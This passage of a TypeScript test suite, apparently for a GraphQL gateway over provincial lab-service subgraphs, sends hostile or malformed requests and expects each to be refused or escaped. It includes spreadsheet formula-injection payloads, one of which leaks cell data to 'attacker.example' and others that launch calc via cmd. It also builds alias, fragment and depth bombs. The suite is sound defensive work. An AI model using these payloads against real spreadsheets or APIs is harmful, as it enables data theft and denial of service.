    { name: 'a voucher valid from 1970 to 2100', as: 'sc.admin', guard: true, request: (m) => op(ISSUE_VOUCHER, { input: { ...validVoucher(m), validFrom: '1970-01-01T00:00:00Z', validUntil: '2100-01-01T00:00:00Z' } }), expect: BAD_USER_INPUT },
    { name: 'a voucher valid from the year 1', as: 'sc.admin', targets: BOTH, guard: true, request: (m) => op(ISSUE_VOUCHER, { input: { ...validVoucher(m), validFrom: '0001-01-01T00:00:00Z' } }), expect: refused('BAD_USER_INPUT', [200, 400]) },
    { name: 'a voucher that ended ten years ago', as: 'sc.admin', guard: true, request: (m) => op(ISSUE_VOUCHER, { input: { ...validVoucher(m), validFrom: daysFromNow(-3700), validUntil: daysFromNow(-3650) } }), expect: BAD_USER_INPUT },
    { name: 'a statement that ends before it starts', as: 'chen.jing', request: statement(daysFromNow(0), daysFromNow(-10)), expect: BAD_USER_INPUT },
    { name: 'a statement over ten years', as: 'chen.jing', request: statement('2020-01-01T00:00:00Z', '2030-01-01T00:00:00Z'), expect: BAD_USER_INPUT },
    { name: 'a charges export over 400 days', as: 'sc.admin', request: () => op('query($from: DateTime!, $to: DateTime!) { sichuan { chargesCsv(from: $from, to: $to) } }', { from: daysFromNow(-400), to: daysFromNow(0) }), expect: BAD_USER_INPUT },
    { name: 'a settlement that ends before it starts', as: 'sc.admin', request: () => op(SETTLEMENT, { from: daysFromNow(0), to: daysFromNow(-10) }), expect: BAD_USER_INPUT },
    { name: 'a settlement over a hundred years', as: 'sc.admin', request: () => op(SETTLEMENT, { from: '1990-01-01T00:00:00Z', to: '2090-01-01T00:00:00Z' }), expect: BAD_USER_INPUT },
    { name: 'a price at the year 1', targets: BOTH, request: () => op('query($id: ID!, $at: DateTime) { sichuan { offering(id: $id) { priceForMe(at: $at) { amountFen } } } }', { id: sx.scOffering, at: '0001-01-01T00:00:00Z' }), expect: refused('BAD_USER_INPUT', [200, 400]) },
    { name: 'webhook deliveries replayed from the future', as: 'sc.admin', guard: true, request: () => op('mutation($id: ID!, $from: DateTime!) { replaySichuanWebhookDeliveries(id: $id, from: $from) }', { id: sx.scSubscription, from: daysFromNow(10) }), expect: BAD_USER_INPUT },
    {
      name: 'accepting a quote after it lapsed',
      as: 'chen.jing',
      guard: true,
      request: async () => {
        const id = await requestAt('QUOTED');
        await sql('sichuan', "UPDATE service_requests SET quote_valid_until = now() - interval '1 day' WHERE id = $1", [localIdOf(id)]);
        return op('mutation($id: ID!) { acceptSichuanServiceQuote(id: $id) { id } }', { id });
      },
      expect: CONFLICT,
    },
    { name: 'accepting a quote twice', as: 'chen.jing', guard: true, request: async () => op('mutation($id: ID!) { acceptSichuanServiceQuote(id: $id) { id } }', { id: await requestAt('ACCEPTED') }), expect: CONFLICT },
    // Not guarded: the serving side records its intent before it asks the issuer, and keeps the refusal it answered.
    {
      name: 'paying with a voucher not valid yet',
      as: 'chen.jing',
      request: async (m) => op(PAY, { ...validPay(m), v: await issueVoucher(testSystem().gatewayUrl, tokenFor, 'chongqing', { validFrom: new Date(Date.now() + 5 * 86_400_000), validUntil: new Date(Date.now() + 9 * 86_400_000) }) }),
      expect: CONFLICT,
    },
    { name: 'paying more of a charge than the voucher may (its share)', as: 'chen.jing', request: (m) => op(PAY, { ...validPay(m), a: 20_001 }), expect: CONFLICT },
  ]);
});

describe('oversized strings: services, charges and vouchers', () => {
  const huge = (length: number) => 'x'.repeat(length);
  cases([
    { name: 'a 2 001-character request description', as: 'chen.jing', targets: BOTH, guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), description: `${m}${huge(2_000)}` } }), expect: BAD_USER_INPUT },
    { name: 'a 900 KB request description', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), description: `${m}${huge(900_000)}` } }), expect: BAD_USER_INPUT },
    { name: 'a 100 000-character form value', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), formValues: [{ name: 'organism', value: huge(100_000) }, { name: 'concentration', value: '1' }] } }), expect: BAD_USER_INPUT },
    { name: '10 000 form values', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), formValues: Array.from({ length: 10_000 }, (_, i) => ({ name: `f${i}`, value: 'x' })) } }), expect: BAD_USER_INPUT },
    { name: 'a 101-character request key', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), idempotencyKey: `k${m}${huge(100)}` } }), expect: BAD_USER_INPUT },
    { name: 'a 201-character offering name', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), name: `${m}${huge(200)}` } }), expect: BAD_USER_INPUT },
    { name: 'a 2 001-character requirements text', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), requirements: `${m}${huge(2_000)}` } }), expect: BAD_USER_INPUT },
    { name: 'a sample form of 31 fields', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), sampleForm: Array.from({ length: 31 }, (_, i) => ({ name: `f${i}`, label: `Field ${i}`, type: 'TEXT' })) } }), expect: BAD_USER_INPUT },
    { name: 'a price list of 41 prices', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), prices: Array.from({ length: 41 }, (_, i) => ({ category: 'ENTERPRISE', band: `B${i}`, fromHour: 1, toHour: 2, amountFen: 1 })) } }), expect: BAD_USER_INPUT },
    { name: 'a 10 000-character quote note', as: 'sc.admin', guard: true, request: (m) => op(QUOTE, { id: sx.scRequest, a: 1_000, u: daysFromNow(20), n: `${m}${huge(10_000)}` }), expect: BAD_USER_INPUT },
    { name: 'a 10 000-character decline reason', as: 'chen.jing', guard: true, request: async (m) => op('mutation($id: ID!, $r: String!) { declineSichuanServiceQuote(id: $id, reason: $r) { id } }', { id: await requestAt('QUOTED'), r: `${m}${huge(10_000)}` }), expect: BAD_USER_INPUT },
    { name: 'a 10 000-character credit reason', as: 'sc.admin', guard: true, request: (m) => op(CREDIT, { id: sx.scCharge, a: 100, r: `${m}${huge(10_000)}` }), expect: BAD_USER_INPUT },
    { name: 'a 1 000-character report file name', as: 'sc.admin', guard: true, request: async (m) => op(ISSUE_REPORT, { id: await requestAt('IN_PROGRESS'), r: { ...validReport(m), fileName: `${m}${huge(1_000)}.pdf` } }), expect: BAD_USER_INPUT },
    {
      name: 'a report over 512 KiB',
      as: 'sc.admin',
      guard: true,
      request: async (m) => op(ISSUE_REPORT, { id: await requestAt('IN_PROGRESS'), r: { ...validReport(m), contentBase64: Buffer.concat([Buffer.from(PDF, 'base64'), Buffer.alloc(600 * 1024, 32)]).toString('base64') } }),
      expect: BAD_USER_INPUT,
    },
    { name: 'a 201-character voucher holder name', as: 'sc.admin', guard: true, request: (m) => op(ISSUE_VOUCHER, { input: { ...validVoucher(m), holderName: `${m}${huge(200)}` } }), expect: BAD_USER_INPUT },
    {
      name: 'a voucher accepted 10 000 times in Sichuan is accepted there once',
      as: 'sc.admin',
      request: (m) => op(ISSUE_VOUCHER, { input: { ...validVoucher(m), acceptedIn: Array.from({ length: 10_000 }, () => 'SICHUAN') } }),
      expect: { ok: (data) => expect(data.result.acceptedIn).toEqual(['SICHUAN']) },
    },
    { name: 'a 10 000-character charge reference to reserve for', as: 'chen.jing', guard: true, request: () => op(RESERVE, { ...validReserve(), ref: huge(10_000) }), expect: BAD_USER_INPUT },
    { name: 'a 10 000-character charge reference to pay', as: 'chen.jing', guard: true, request: (m) => op(PAY, { ...validPay(m), ref: huge(10_000) }), expect: BAD_USER_INPUT },
    { name: 'a 10 000-character payment key', as: 'chen.jing', guard: true, request: (m) => op(PAY, { ...validPay(m), k: huge(10_000) }), expect: BAD_USER_INPUT },
    { name: 'a 10 000-character webhook address', as: 'sc.admin', guard: true, request: (m) => op(SUBSCRIBE, { input: { ...validSubscription(m), url: `http://127.0.0.1:9/${huge(10_000)}` } }), expect: BAD_USER_INPUT },
    { name: 'a webhook for 10 000 event types', as: 'sc.admin', guard: true, request: (m) => op(SUBSCRIBE, { input: { ...validSubscription(m), eventTypes: Array.from({ length: 10_000 }, () => 'booking.confirmed') } }), expect: BAD_USER_INPUT },
    { name: 'a 10 000-character webhook description', as: 'sc.admin', guard: true, request: (m) => op(SUBSCRIBE, { input: { ...validSubscription(m), description: `${m}${huge(10_000)}` } }), expect: BAD_USER_INPUT },
    { name: 'events of 10 000 types', as: 'sc.admin', request: () => op('query($t: [String!]) { sichuan { events(types: $t) { edges { cursor } } } }', { t: Array.from({ length: 10_000 }, (_, i) => `type${i}`) }), expect: BAD_USER_INPUT },
    { name: 'a 100 000-character callback address', targets: ['gateway', 'platform'], request: () => op('mutation($c: String!) { completeExternalSignIn(provider: "demo", callbackUrl: $c) { token } }', { c: `http://127.0.0.1:5173/signed-in?code=${huge(100_000)}` }), expect: BAD_USER_INPUT },
    { name: 'a 10 000-character provider name', targets: ['gateway', 'platform'], request: () => op('mutation($p: String!) { beginExternalSignIn(provider: $p, redirectUri: "http://127.0.0.1:5173/signed-in") { state } }', { p: huge(10_000) }), expect: BAD_USER_INPUT },
  ]);
});

// Text from callers that starts like a formula reaches the finance export as text, never as a formula a spreadsheet would run.
describe('formulas in the charges export', () => {
  const CSV = 'query($from: DateTime!, $to: DateTime!) { sichuan { chargesCsv(from: $from, to: $to) } }';
  const FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Refund")', "+cmd|' /C calc'!A0", '-2+3+cmd|calc!A0', '@SUM(1+1)*cmd|calc!A0'];
  cases(FORMULAS.map((reason): Case => {
    let chargeId = '';
    return {
      name: `a credit reason of ${reason.slice(0, 12)}…`,
      as: 'sc.admin',
      request: async () => {
        chargeId = await chargeFor(sql, 'sichuan', 10_000);
        await must(CREDIT, fx.tokens['sc.admin'], { id: chargeId, a: 100, r: reason });
        return op(CSV, { from: daysFromNow(-1), to: daysFromNow(1) });
      },
      expect: {
        ok: (data) => {
          const rows = parse(data.sichuan.chargesCsv, { columns: true }) as Record<string, string>[];
          const credit = rows.find((row) => row['charge_id'] === chargeId && row['line_kind'] === 'CREDIT');
          expect(credit).toMatchObject({ reason: `'${reason}`, amount_fen: '-100' });
        },
      },
    };
  }));
});

// The calendar routes answer iCalendar or plain text, not GraphQL: each bad address is a 4xx with a short text, never a 5xx or a leak.
describe('calendar feed addresses', () => {
  const FEEDS: readonly (readonly [name: string, path: string, search: string, status: number | readonly number[]])[] = [
    ['no feed secret', '/calendar/bookings.ics', '', 404],
    ['a feed secret of SQL text', '/calendar/bookings.ics', `feed=${encodeURIComponent(PAYLOADS['SQL text'])}`, 404],
    ['a feed secret with a NUL character', '/calendar/bookings.ics', 'feed=ab%00cd', 404],
    // Refused by the HTTP server itself (headers too large) or as an unknown feed.
    ['a 100 000-character feed secret', '/calendar/bookings.ics', `feed=${'x'.repeat(100_000)}`, [404, 414, 431]],
    ['a feed secret given twice', '/calendar/bookings.ics', 'feed=a&feed=b', 404],
    ['no instrument id', '/calendar/instrument.ics', '', 400],
    ['an instrument id of script text', '/calendar/instrument.ics', `id=${encodeURIComponent(PAYLOADS['script text'])}`, 400],
    ['an instrument id with a NUL character', '/calendar/instrument.ics', `id=sc%3Ainstrument%3A${randomUUID()}%00`, 400],
    ['a lab id as the instrument', '/calendar/instrument.ics', 'id=LAB', 400],
    ['an instrument that does not exist', '/calendar/instrument.ics', `id=${scId('instrument')}`, 404],
    ['an instrument of a province that does not exist', '/calendar/instrument.ics', `id=xx%3Ainstrument%3A${randomUUID()}`, 400],
  ];
  it.each(FEEDS)('%s: answered %#', async (_, path, search, status) => {
    const answer = await sendRaw(testSystem().gatewayUrl, { method: 'GET', path, search: search === 'id=LAB' ? `id=${encodeURIComponent(fx.scLab)}` : search });
    expect({ status: oneOf(answer.status, status), leaks: leaksIn(answer.text, Object.values(PAYLOADS)) }).toEqual({ status: answer.status, leaks: [] });
  });
});

describe('after all of that', () => {
  it('the gateway and every subgraph still answer, and the registries still hold their tables', async () => {
    const { body } = await gateway('{ sichuan { instruments(first: 1) { totalCount } } chongqing { instruments(first: 1) { totalCount } } }');
    expect(body.errors).toBeUndefined();
    expect(body.data.sichuan.instruments.totalCount).toBeGreaterThan(0);
    expect(body.data.chongqing.instruments.totalCount).toBeGreaterThan(0);
    for (const url of Object.values(testSystem().subgraphUrls)) {
      const ready = await fetch(new URL('/health/ready', url));
      expect({ url, status: ready.status }).toEqual({ url, status: 200 });
    }
    for (const province of ['sichuan', 'chongqing'] as const) {
      const tables = await sql(province, "SELECT count(*)::int AS n FROM information_schema.tables WHERE table_schema = 'public' AND table_name = ANY($1)", [
        ['instruments', 'bookings', 'labs', 'talent_cards', 'audit_log', 'recognition_catalog'],
      ]);
      expect(tables[0]!['n']).toBe(6);
    }
  });
});

// ---------- operation limits: last, while the gateway's limits settle ----------

describe('operation limits', () => {
  cases([
    { name: 'a query 2000 levels deep', request: () => op(deepQuery(2000)), expect: LIMIT },
    { name: 'a query 14 levels deep, within the token budget', request: () => op(deepQuery(14)), expect: LIMIT },
    { name: 'a 10 000-alias bomb', request: () => op(aliases(10_000)), expect: LIMIT },
    { name: '31 aliases', request: () => op(aliases(31)), expect: LIMIT },
    { name: '11 root fields', request: () => op(`{ ${Array.from({ length: 11 }, (_, i) => `r${i}: sichuan { name }`).join(' ')} }`), expect: LIMIT },
    {
      name: 'a fragment bomb (21 levels, 2^21 fields inlined) is refused at once',
      request: () => op(fragmentBomb(21)),
      expect: LIMIT,
    },
    { name: 'first: 101 through the gateway', request: () => op('{ sichuan { instruments(first: 101) { totalCount } } }'), expect: LIMIT },
    { name: 'first: 2147483647 through the gateway', request: () => op('{ sichuan { instruments(first: 2147483647) { totalCount } } }'), expect: LIMIT },
    {
      name: 'a costly operation: 25 pages of 100 instruments (cost over 25 000)',
      request: () => op(`{ sichuan { ${Array.from({ length: 25 }, (_, i) => `p${i}: instruments(first: 100) { edges { node { id name nameZh category model institution hourlyFee } } }`).join(' ')} } }`),
      expect: LIMIT,
    },
    { name: 'a batch of 11 operations', request: () => json(`[${Array.from({ length: 11 }, () => TYPENAME).join(',')}]`), expect: LIMIT },
    { name: 'a body over MAX_BODY_BYTES', targets: BOTH, request: () => json(JSON.stringify({ query: '{ __typename }', padding: 'x'.repeat(1_100_000) })), expect: refused('BAD_REQUEST', 413) },
    { name: '5 000 tokens', request: () => op(`{ ${'__typename '.repeat(5_000)}}`), expect: LIMIT },
    { name: '2 000 directives on one field', request: () => op(`{ __typename ${'@include(if: true) '.repeat(2_000)}}`), expect: LIMIT },
    {
      name: 'a 10 000-alias bomb straight at a subgraph',
      targets: ['sichuan'],
      request: () => op(aliases(10_000)),
      expect: LIMIT,
    },
    { name: 'a query 2000 levels deep straight at a subgraph', targets: ['sichuan'], request: () => op(deepQuery(2000)), expect: LIMIT },
  ]);
});

// Issue 17, defects 3 and 5: a batch is one request with one budget, measured before validation in time linear in its size.
describe('operation limits: batches, fragments and lists', () => {
  cases([
    {
      // 2^40 exactly: counted with each fragment measured once, not walked node by node until a walk budget ran out.
      name: 'a 40-level doubled fragment chain in a batch of 10: the whole request refused, its cost counted exactly',
      targets: BOTH,
      request: () => batchOf(10, fragmentBomb(40)),
      expect: limitRefusal('MAX_QUERY_COST', { actual: 2 ** 40 }),
    },
    {
      name: 'availability over 31 days of 100 instruments, aliased 10 times, in a batch of 10',
      request: () => batchOf(10, aliasedAvailability(10)),
      expect: limitRefusal('MAX_QUERY_COST'),
    },
    {
      // One such operation is within MAX_QUERY_COST (12 702); two in one batch are not.
      name: 'availability over 31 days of 100 instruments once per operation, in a batch of 10 (one budget for the batch)',
      request: () => batchOf(10, aliasedAvailability(1)),
      expect: limitRefusal('MAX_QUERY_COST', { allowed: 20_000 }),
    },
    {
      name: 'one field repeated 950 times: validating it would compare every pair',
      request: () => op(`{ sichuan { ${'instruments { totalCount } '.repeat(950)}} }`),
      expect: limitRefusal('MAX_COMPARISONS'),
    },
    {
      // About 3.4 MB from each province, within each subgraph's ceiling; together over the gateway's 4 MB.
      name: 'long aliases on every instrument of both provinces, in a batch of 2: over the response ceiling',
      request: () => json(JSON.stringify([{ query: longAliases('sichuan', 15, 4_500) }, { query: longAliases('chongqing', 15, 4_500) }])),
      expect: { ...refused('RESPONSE_TOO_LARGE', 400), extensions: { limit: 'MAX_RESPONSE_BYTES' } },
    },
    {
      name: 'long aliases on every instrument straight at a subgraph: over its response ceiling',
      targets: ['sichuan'],
      request: () => op(longAliases('sichuan', 30, 9_000)),
      expect: { ...refused('RESPONSE_TOO_LARGE', 400), extensions: { limit: 'MAX_RESPONSE_BYTES' } },
    },
  ]);
});

// Sign-ins, bookings and card checks cost real work each: aliases and batches must not multiply them under one request.
describe('operation limits: expensive fields', () => {
  const LOGIN = 'login(username: "li.wei", password: "shuangcheng-demo") { token }';
  const aliasedOf = (count: number, field: (index: number) => string, kind = 'mutation') =>
    `${kind} { ${Array.from({ length: count }, (_, i) => `a${i}: ${field(i)}`).join(' ')} }`;
  const bookingOf = (marker: string) => () => {
    const slot = fx.scSlots.take();
    return `bookSichuanInstrument(instrumentId: "${fx.scInstrument}", start: "${slot.start}", end: "${slot.end}", purpose: "Aliased ${marker}", idempotencyKey: "key-${randomUUID()}") { id }`;
  };
  cases([
    {
      name: 'a batch of 10 operations of 10 aliased logins',
      targets: ['gateway', 'platform'],
      request: () => json(JSON.stringify(Array.from({ length: 10 }, () => ({ query: aliasedOf(10, () => LOGIN) }))), { 'x-forwarded-for': someAddress() }),
      expect: limitRefusal('MAX_SIGN_INS_PER_OPERATION', { actual: 10, allowed: 1 }),
    },
    {
      name: 'one login spread twice through a fragment',
      targets: ['gateway', 'platform'],
      request: () => op(`mutation { ...L ...L } fragment L on Mutation { ${LOGIN} }`, undefined, { headers: { 'x-forwarded-for': someAddress() } }),
      expect: limitRefusal('MAX_SIGN_INS_PER_OPERATION', { actual: 2 }),
    },
    {
      name: 'a batch of 10 operations of 10 aliased bookings',
      targets: ['gateway', 'sichuan'],
      as: 'chen.jing',
      guard: true,
      request: (marker) => json(JSON.stringify(Array.from({ length: 10 }, () => ({ query: aliasedOf(10, bookingOf(marker)) })))),
      expect: limitRefusal('MAX_EXPENSIVE_FIELDS', { actual: 10, fields: { 'Mutation.bookSichuanInstrument': 10 } }),
    },
    {
      name: 'a batch of 10 operations of 10 aliased card checks',
      targets: ['gateway', 'platform'],
      as: 'sc.admin',
      request: () => json(JSON.stringify(Array.from({ length: 10 }, () => ({ query: aliasedOf(10, () => `verifyTalentCard(cardNumber: "${fx.scCard.cardNumber}") { cardNumber }`, 'query') })))),
      expect: limitRefusal('MAX_EXPENSIVE_FIELDS', { fields: { 'Query.verifyTalentCard': 10 } }),
    },
  ]);
});

describe('the table', () => {
  it('holds at least 60 hostile or malformed requests', () => {
    expect(caseCount).toBeGreaterThanOrEqual(60);
  });
});
